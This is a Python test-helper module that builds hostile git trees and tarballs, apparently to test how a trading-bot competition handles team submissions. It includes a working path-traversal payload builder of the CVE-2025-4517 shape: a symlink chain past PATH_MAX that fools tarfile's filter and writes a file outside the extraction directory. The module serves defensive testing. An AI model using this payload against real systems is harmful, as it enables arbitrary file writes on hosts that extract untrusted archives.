"""Hostile trees made by hand: git objects written with `git hash-object -w` (raw trees with
`--literally`, so git's own checks do not stop them being made, as a hostile client would push
them), commits with `git commit-tree` and `git update-ref`; and tarballs built member by member
with tarfile, for what git cannot express (hard links, devices).

A tree spec is a list of (name, value), duplicates allowed, in any order:
    bytes / str            a regular file (100644)
    Exec(bytes)            an executable file (100755)
    Link(target)           a symbolic link (120000)
    Gitlink(sha)           a submodule entry (160000)
    list                   a sub-tree
"""

from __future__ import annotations

import io
import subprocess
import tarfile
from dataclasses import dataclass
from pathlib import Path

GIT_ID = ("-c", "user.name=Team Bot", "-c", "user.email=bot@example.invalid", "-c", "commit.gpgsign=false")
SECRET = "ORGANISER-SECRET-7c1e: the future prices live in /srv/arena/data"  # a host file's line no team may see
CONFIG = b'{"policy": {"class_name": "Hold", "parameters": {}}}\n'
HOLD = b"class Hold:\n    def act(self, external_state, internal_state):\n        return 0.0, 0.0\n"


@dataclass(frozen=True)
class Exec:
    data: bytes


@dataclass(frozen=True)
class Link:
    target: str | bytes


@dataclass(frozen=True)
class Gitlink:
    sha: str


def _b(name: str | bytes) -> bytes:
    return name if isinstance(name, bytes) else name.encode()


def _git(repo: Path, *args: str, data: bytes | None = None) -> str:
    return subprocess.run(["git", "-C", str(repo), *GIT_ID, *args], input=data, check=True,
                          capture_output=True).stdout.decode().strip()


def init_repo(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    return path


def write_blob(repo: Path, data: bytes) -> str:
    return _git(repo, "hash-object", "-w", "--stdin", data=data)


def write_tree(repo: Path, spec: list) -> str:
    """A raw tree object from `spec`, written exactly as given (git would refuse some of these)."""
    rows = []
    for name, value in spec:
        if isinstance(value, list):
            mode, oid = b"40000", write_tree(repo, value)
        elif isinstance(value, Link):
            mode, oid = b"120000", write_blob(repo, _b(value.target))
        elif isinstance(value, Exec):
            mode, oid = b"100755", write_blob(repo, value.data)
        elif isinstance(value, Gitlink):
            mode, oid = b"160000", value.sha
        else:
            mode, oid = b"100644", write_blob(repo, _b(value))
        # git's order: by name, a tree's name compared as if it ended in '/'
        key = _b(name) + (b"/" if mode == b"40000" else b"")
        rows.append((key, mode + b" " + _b(name) + b"\0" + bytes.fromhex(oid)))
    raw = b"".join(row for _, row in sorted(rows, key=lambda r: r[0]))
    return _git(repo, "hash-object", "-t", "tree", "--literally", "-w", "--stdin", data=raw)


def template(*extra: tuple) -> list:
    """A working 2024-layout tree, plus `extra` entries at the top level."""
    return [("bot", [("config.json", CONFIG), ("requirements.txt", b""),
                     ("policies", [("__init__.py", b""), ("hold.py", HOLD)])]), *extra]


def commit_spec(repo: Path, spec: list, message: str = "submission", branch: str = "main") -> str:
    """Commit the tree `spec` on top of `branch` (or as its first commit) and move the branch."""
    tree = write_tree(repo, spec)
    parent = subprocess.run(["git", "-C", str(repo), "rev-parse", "--verify", "-q", f"refs/heads/{branch}"],
                            capture_output=True, text=True).stdout.strip()
    args = ["commit-tree", tree, "-m", message] + (["-p", parent] if parent else [])
    sha = _git(repo, *args)
    _git(repo, "update-ref", f"refs/heads/{branch}", sha)
    return sha


# -- tarballs ------------------------------------------------------------------------------------


def member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", linkname: str = "", mode: int = 0o644) -> tuple:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.size = kind, linkname, mode, len(data) if kind == tarfile.REGTYPE else 0
    return info, data


def spec_members(top: str, spec: list, prefix: str = "") -> list[tuple]:
    """A tree spec as tar members, in the spec's own order (git archive would refuse some specs)."""
    members = []
    for name, value in spec:
        path = f"{top}/{prefix}{_b(name).decode('utf-8', 'surrogateescape')}"
        if isinstance(value, list):
            members.append(member(path, tarfile.DIRTYPE, mode=0o755))
            members += spec_members(top, value, path[len(top) + 1:] + "/")
        elif isinstance(value, Link):
            members.append(member(path, tarfile.SYMTYPE, linkname=_b(value.target).decode("utf-8", "surrogateescape")))
        elif isinstance(value, Gitlink):
            members.append(member(path, tarfile.DIRTYPE, mode=0o755))
        elif isinstance(value, Exec):
            members.append(member(path, data=value.data, mode=0o755))
        else:
            members.append(member(path, data=_b(value)))
    return members


def tarball(top: str, members: list[tuple], *, with_template: bool = True) -> bytes:
    """A gzip tarball shaped like GitHub's: every member under `top/` (unless its name says
    otherwise), the template's files first unless `with_template` is False."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.PAX_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as tar:
        base = [member(top, tarfile.DIRTYPE, mode=0o755)]
        if with_template:
            base += [member(f"{top}/bot", tarfile.DIRTYPE, mode=0o755),
                     member(f"{top}/bot/config.json", data=CONFIG),
                     member(f"{top}/bot/policies", tarfile.DIRTYPE, mode=0o755),
                     member(f"{top}/bot/policies/hold.py", data=HOLD)]
        for info, data in base + members:
            tar.addfile(info, io.BytesIO(data) if info.type == tarfile.REGTYPE else None)
    return out.getvalue()


LONG = "d" * 247
STEPS = "abcdefghijklmnop"
CHAIN_LINK = "/".join(STEPS) + "/" + "l" * 254


def path_max_members(top: str, escape_to: str) -> list[tuple]:
    """The CVE-2025-4517 shape: folders with 247-character names, each shadowed by a one-letter link
    to it, so a path through the links stays short while its resolved path passes PATH_MAX (there
    `os.path.realpath` stops resolving and tarfile's filter checks a path the kernel does not use);
    a link at the end of the chain climbs back up, `escape` points through it to `escape_to`, and a
    file is written through `escape`."""
    members, path = [], ""
    for step in STEPS:
        members.append(member(f"{top}/{path}{LONG}", tarfile.DIRTYPE, mode=0o755))
        members.append(member(f"{top}/{path}{step}", tarfile.SYMTYPE, linkname=LONG))
        path += LONG + "/"
    members.append(member(f"{top}/{CHAIN_LINK}", tarfile.SYMTYPE, linkname="../" * len(STEPS)))
    members.append(member(f"{top}/escape", tarfile.SYMTYPE, linkname=f"{CHAIN_LINK}/{escape_to}"))
    members.append(member(f"{top}/escape/pwned", data=b"written outside\n"))
    return members


def path_max_tree(escape_to: str) -> list:
    """The same shape as a git tree (git puts no limit on path length), `escape` both a link and a folder."""

    def level(i: int) -> list:
        if i == len(STEPS):
            return [("l" * 254, Link("../" * len(STEPS)))]
        return [(LONG, level(i + 1)), (STEPS[i], Link(LONG))]

    return template(*level(0), ("escape", Link(f"{CHAIN_LINK}/{escape_to}")), ("escape", [("pwned", b"x\n")]))
